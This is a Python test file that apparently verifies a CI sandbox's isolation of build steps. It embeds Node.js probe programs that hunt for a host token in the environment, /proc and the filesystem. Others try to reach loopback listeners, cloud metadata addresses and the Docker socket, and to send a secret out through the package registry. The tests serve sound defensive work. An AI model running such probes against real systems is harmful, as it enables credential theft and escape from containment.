"""Threat: a step reads the host's files and environment, or talks with anything outside its box.

The same program runs outside as the control, and there it does find the token and the listeners.
"""

import json
import shlex
import socket
import threading
from contextlib import ExitStack, suppress

import pytest

from cloche.model.job import Verdict
from job_site import open_site, outside, project, said
from needs import BOX, JOB, needs

pytestmark = needs(*BOX, *JOB)

TOKEN = "token-4f7a-of-the-host"


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    with open_site(tmp_path_factory.mktemp("site")) as site:
        yield site


def asks(program, *arguments):
    """The line that runs a program with arguments that are JSON."""
    return f"node {program} {' '.join(shlex.quote(json.dumps(each)) for each in arguments)}"


# Files and environment

SEARCH = r"""
const fs = require("node:fs"), path = require("node:path");
const [reversed, places] = process.argv.slice(2, 4).map(JSON.parse);
const token = Buffer.from([...reversed].reverse().join(""));
const got = [];
const look = (name, read) => { try { if (read().includes(token)) got.push(name); } catch {} };
look("environment", () => JSON.stringify(process.env));
const pids = [...fs.readdirSync("/proc").filter(name => /^\d+$/.test(name)), "1", "self", "thread-self"];
for (const pid of pids)
  for (const name of ["environ", "cmdline", "task/1/environ", "root/etc/hostname", "maps"])
    look("process", () => fs.readFileSync(`/proc/${pid}/${name}`));
for (const place of places)
  for (const before of ["", "/proc/self/root", "/proc/self/cwd/../../..", "/..", "/proc/1/root"])
    look("file", () => fs.readFileSync(before + place));
const walk = folder => {
  for (const entry of fs.readdirSync(folder, { withFileTypes: true })) {
    const name = path.join(folder, entry.name);
    if (/^\/(proc|sys|dev)$/.test(name)) continue;
    if (entry.isDirectory()) try { walk(name); } catch {}
    else if (entry.isFile())
      look("walk", () => fs.statSync(name).size < 1e6 ? fs.readFileSync(name) : "");
  }
};
if (process.env.PWD === "/workspace") walk("/");
console.log(JSON.stringify([...new Set(got)].sort()));
"""  # noqa: E501 — a program


@pytest.mark.case("link-08-pid1-environ", "file-01-host-secrets")
def test_no_step_finds_a_secret_of_the_host(site, open_folder, tmp_path, monkeypatch):
    monkeypatch.setenv("HOST_SECRET", TOKEN)
    marker = open_folder / "marker"
    marker.write_text(TOKEN)
    marker.chmod(0o644)
    line = asks("search.js", TOKEN[::-1], [str(marker)])
    files = {"search.js": SEARCH}
    assert said(outside(line, tmp_path, files)) == ["environment", "file", "process"]

    package = site.publish("some", [("package/index.js", "")])
    whole = site.run(
        {**project(package, scripts={"test": f"{line}; node --test", "build": line}), **files}
    )
    assert whole.verdict is Verdict.PASSED
    assert "[]" in whole.lines("test")
    assert whole.printed("build") == []
    assert TOKEN.encode() not in whole.everything()


def test_a_step_has_the_variables_of_its_step_and_cloche_s_own_and_no_others(site, monkeypatch):
    monkeypatch.setenv("NODE_OPTIONS", "--require=/nothing.js")
    monkeypatch.setenv("LD_LIBRARY_PATH", "/nothing")
    monkeypatch.setenv("npm_config__auth", "c2VjcmV0")
    ran = site.steps({"show": {"shell": "env | cut -d = -f 1 | sort", "env": {"MINE": "1"}}})
    names = [name for name in ran.lines("show") if not name.startswith("pnpm_config_")]
    own = ["CI", "HOME", "LANG", "MINE", "PATH", "SOURCE_DATE_EPOCH", "TZ"]
    own.append("npm_config_script_shell")  # as pnpm's, which the test leaves out above
    assert names == sorted([*own, "PWD", "SHLVL", "_"])  # the last three are bash's


# Networks


class Canary:
    """Counts the connections and datagrams that arrive at one address of the host."""

    def __init__(self, family: int, address: object) -> None:
        self.hits = 0
        self.ends = [socket.socket(family, socket.SOCK_STREAM)]
        self.ends[0].bind(address)
        self.ends[0].listen()
        self.address = self.ends[0].getsockname()
        if family != socket.AF_UNIX:
            self.ends.append(socket.socket(family, socket.SOCK_DGRAM))
            self.ends[1].bind(self.address)
        for end, wait in zip(self.ends, (self._accept, self._receive), strict=False):
            threading.Thread(target=self._count, args=(end, wait), daemon=True).start()

    def _accept(self, end):
        end.accept()[0].close()

    def _receive(self, end):
        query, sender = end.recvfrom(512)
        if not query:
            raise OSError("shut down")
        end.sendto(query, sender)

    def _count(self, end, wait):
        with suppress(OSError):
            while True:
                wait(end)
                self.hits += 1

    def close(self):
        for end in self.ends:
            with suppress(OSError):
                end.shutdown(socket.SHUT_RDWR)  # wakes the thread
            end.close()


@pytest.fixture
def canaries(open_folder):
    """On loopback, on the host's own address if it has one, and in a folder that all may enter."""
    with ExitStack() as stack:
        found = [Canary(socket.AF_INET, ("127.0.0.1", 0)), Canary(socket.AF_INET6, ("::1", 0))]
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe, suppress(OSError):
            probe.connect(("192.0.2.1", 9))  # sends nothing: asks for the route
            found.append(Canary(socket.AF_INET, (probe.getsockname()[0], 0)))
        found.append(Canary(socket.AF_UNIX, str(open_folder / "canary.sock")))
        (open_folder / "canary.sock").chmod(0o777)
        for canary in found:
            stack.callback(canary.close)
        yield found


CONNECT = r"""
const net = require("node:net"), dgram = require("node:dgram"), dns = require("node:dns");
const [targets, sockets, ports] = process.argv.slice(2, 5).map(JSON.parse);
for (const name of Object.keys(process.env)) if (/_proxy$/i.test(name)) delete process.env[name];
const got = [];
const within = (name, start) => new Promise(done => {
  const timer = setTimeout(done, 700);
  const end = met => { if (met) got.push(name); clearTimeout(timer); done(); };
  try { start(end); } catch { end(false); }
});
const stream = (name, options) => within(name, end => {
  const it = net.connect(options);
  it.on("connect", () => { it.destroy(); end(true); });
  it.on("error", () => end(false));
});
const ask = port => within(`resolver ${port}`, end => {
  const it = dgram.createSocket("udp4");
  it.on("message", () => { it.close(); end(true); }).on("error", () => end(false));
  it.send("canary-query", port, "127.0.0.1", error => error && end(false));
  it.unref();
});
const resolve = name => within(name, end => dns.lookup(name, error => end(!error)));
Promise.all([
  ...targets.map(([host, port]) => stream(`${host}:${port}`, { host, port })),
  ...sockets.map(path => stream(path, { path })),
  ...ports.map(ask),
  ...["data-5ec4e7.canary.test", "localhost.canary.test"].map(resolve),
]).then(() => { console.log(JSON.stringify(got)); process.exit(0); });
"""
# One address of loopback in the spellings that address lists forget.
SPELLINGS = (
    "127.0.0.1", "0x7f000001", "2130706433", "0177.0.0.1", "127.1", "::ffff:127.0.0.1", "0.0.0.0",
    "localhost", "localhost.",
)  # fmt: skip
WELL_KNOWN = (
    "/var/run/docker.sock", "/run/containerd/containerd.sock", "/run/dbus/system_bus_socket",
    "/run/systemd/private", "/run/user/0/bus", "/tmp/.X11-unix/X0",
)  # fmt: skip


@pytest.mark.case(
    "net-02-ignores-proxy-env", "net-03-dns-query", "net-05-unix-socket-path",
    "net-07-connect-ip-forms",
)  # fmt: skip
def test_no_step_reaches_a_listener_of_the_host_or_a_resolver(site, canaries, tmp_path):
    *networks, unix = canaries
    port = networks[0].address[1]
    targets = [
        *[[host, port] for host in SPELLINGS],
        *[list(canary.address[:2]) for canary in networks[1:]],
        ["192.0.2.1", 443], ["169.254.169.254", 80], ["100.100.100.200", 80],
        ["fd00:ec2::254", 80], ["64:ff9b::7f00:1", port],
    ]  # fmt: skip
    line = asks("connect.js", targets, [unix.address, *WELL_KNOWN], [port, 53])
    control = said(outside(line, tmp_path, {"connect.js": CONNECT}))
    met = (f"127.0.0.1:{port}", f"0x7f000001:{port}", unix.address, f"resolver {port}")
    assert {*met} <= {*control}
    hits = [canary.hits for canary in canaries]
    assert all(hits)

    proxy = {"HTTPS_PROXY": f"http://127.0.0.1:{port}", "SSH_AUTH_SOCK": str(unix.address)}
    ran = site.steps({"attack": {"shell": line, "env": proxy}}, {"connect.js": CONNECT})
    assert ran.printed("attack") == []
    assert [canary.hits for canary in canaries] == hits


PUBLISH = r"""
const [registries, secret] = process.argv.slice(2, 4).map(JSON.parse);
const got = [];
const attempt = async (url, options) => {
  try {
    await fetch(url, { signal: AbortSignal.timeout(1500), ...options });
    got.push(`${options.method} ${url}`);
  } catch {}
};
(async () => {
  for (const registry of registries) {
    for (const method of ["PUT", "POST", "DELETE", "PATCH"])
      await attempt(`${registry}evil-pkg`, { method, body: JSON.stringify({ data: secret }) });
    await attempt(`${registry}-/npm/v1/security/advisories/bulk`, { method: "POST", body: secret });
    await attempt(`${registry}-/v1/search?text=${secret}`, { method: "GET" });
  }
  console.log(JSON.stringify(got));
})();
"""


@pytest.mark.case("net-15-registry-as-exfil")
def test_the_registry_of_the_install_is_no_way_out_for_a_step(site, tmp_path):
    package = site.publish("wanted", [("package/index.js", "")])
    registries = [site.registry.url, "http://127.0.0.1:4873/"]
    line = asks("publish.js", registries, TOKEN)
    files = {**project(package), "publish.js": PUBLISH}
    seen_count = len(site.registry.seen)
    ran = site.run(files, steps=[{"name": "publish", "shell": f"{line}; pnpm publish || true"}])
    assert "[]" in ran.lines("publish")
    seen = site.registry.seen[seen_count:]
    assert {(each.method, each.path) for each in seen} <= {("GET", "/wanted/-/wanted-1.0.0.tgz")}
    assert all(TOKEN not in each.path for each in seen)

    seen_count = len(site.registry.seen)
    control = said(outside(asks("publish.js", registries[:1], TOKEN), tmp_path, files))
    assert len(control) == 6
    methods = {each.method for each in site.registry.seen[seen_count:]}
    assert methods >= {"PUT", "POST"}


def test_the_port_of_the_install_is_closed_in_a_step_and_belongs_to_the_box(site):
    listen = """
const server = require("node:net").createServer(() => {}).listen(4873, "127.0.0.1", () => {
  console.log(JSON.stringify(server.address().port)); process.exit(0);
});
"""
    ran = site.step("node listen.js", {"listen.js": listen})
    assert ran.printed("attack") == 4873


def test_every_step_the_install_too_is_reported_as_confined(site):
    package = site.publish("reported", [("package/index.js", "")])
    ran = site.run(project(package))
    assert [step.name for step in ran.result.steps] == ["install", "test", "build"]
    for step in ran.result.steps:
        assert step.isolation is not None
        controls = step.isolation.controls
        for name in ("network", "seccomp", "capabilities", "root", "scratch", "no_new_privs"):
            assert controls[name].strength == "enforced", (step.name, name)
